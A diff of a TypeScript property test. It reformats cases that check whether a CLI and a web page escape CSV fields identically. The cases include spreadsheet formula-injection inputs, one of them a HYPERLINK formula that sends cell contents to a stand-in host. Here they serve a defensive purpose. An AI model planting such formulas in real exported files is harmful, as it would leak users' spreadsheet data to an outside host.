@@ -11,9 +11,35 @@ import { csvField as cliField } from '../../src/cli/analytics-render.js';
 import { csvField as pageField } from '../../web/src/csv.js';
 
 const CASES: (string | number | boolean | null | undefined)[] = [
-  '=HYPERLINK("http://x.example/?q="&A1,"click")', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=1+2', "'already", 'plain', '/home/u/proj',
-  'a,b', 'say "hi"', 'two\nlines', '=a,"b"', '', ' =leading space', 'mcp__srv__=tool', '-', '−5',
-  0, -5, 3.25, -0.5, Number.NaN, Number.POSITIVE_INFINITY, null, undefined, true, false,
+  '=HYPERLINK("http://x.example/?q="&A1,"click")',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\tx',
+  '\rx',
+  '=1+2',
+  "'already",
+  'plain',
+  '/home/u/proj',
+  'a,b',
+  'say "hi"',
+  'two\nlines',
+  '=a,"b"',
+  '',
+  ' =leading space',
+  'mcp__srv__=tool',
+  '-',
+  '−5',
+  0,
+  -5,
+  3.25,
+  -0.5,
+  Number.NaN,
+  Number.POSITIVE_INFINITY,
+  null,
+  undefined,
+  true,
+  false,
 ];
 
 describe('csvField: the CLI and the page write every field alike', () => {
@@ -28,7 +54,12 @@ describe('csvField: the CLI and the page write every field alike', () => {
   });
 
   it('agrees on any text and any number', () => {
-    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', ' ', 'é') });
-    fc.assert(fc.property(fc.oneof(text, fc.double(), fc.integer()), (v) => cliField(v) === pageField(v)), { numRuns: 2000 });
+    const text = fc.string({
+      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', ' ', 'é'),
+    });
+    fc.assert(
+      fc.property(fc.oneof(text, fc.double(), fc.integer()), (v) => cliField(v) === pageField(v)),
+      { numRuns: 2000 },
+    );
   });
 });
